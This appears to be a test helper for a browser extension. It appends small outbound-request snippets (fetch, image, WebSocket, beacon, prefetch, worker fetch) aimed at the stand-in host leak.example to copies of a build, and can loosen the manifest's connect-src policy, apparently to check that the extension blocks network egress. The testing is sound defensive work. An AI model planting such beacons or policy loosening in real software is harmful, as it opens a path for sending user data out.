import { appendFileSync, cpSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

/** The host that planted leaks talk to. */
export const LEAK_HOST = "leak.example";

/** A way out, planted into one script of a build. */
export interface Leak {
  name: string;
  file: "reader.js" | "background.js";
  /** Code that takes the way to `base`, which is host and port. */
  code: (base: string) => string;
}

export const LEAKS: readonly Leak[] = [
  { name: "fetch", file: "reader.js", code: (base) => `fetch("https://${base}/leak").catch(() => {});` },
  { name: "image", file: "reader.js", code: (base) => `new Image().src = "https://${base}/leak";` },
  { name: "WebSocket", file: "reader.js", code: (base) => `new WebSocket("wss://${base}/leak");` },
  { name: "beacon", file: "reader.js", code: (base) => `navigator.sendBeacon("https://${base}/leak", "x");` },
  {
    name: "prefetch link",
    file: "reader.js",
    code: (base) =>
      `{ const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://${base}/leak"; document.head.append(l); }`,
  },
  {
    name: "fetch in the worker",
    file: "background.js",
    code: (base) => `fetch("https://${base}/leak").catch(() => {});`,
  },
];

/**
 * A copy of a build with one leak at the end of a script; gives its folder, which the caller removes. The worker is
 * bound by the manifest's policy; with `loosened` that policy lets it out.
 */
export function plantLeak(build: string, { file, code }: Leak, base: string, loosened: boolean): string {
  const copy = mkdtempSync(join(tmpdir(), "backgrounder-leak-"));
  cpSync(build, copy, { recursive: true });
  appendFileSync(join(copy, file), `\n;${code(base)}\n`);
  if (loosened) {
    const manifest = join(copy, "manifest.json");
    writeFileSync(manifest, readFileSync(manifest, "utf8").replace("connect-src 'self'", "connect-src *"));
  }
  return copy;
}
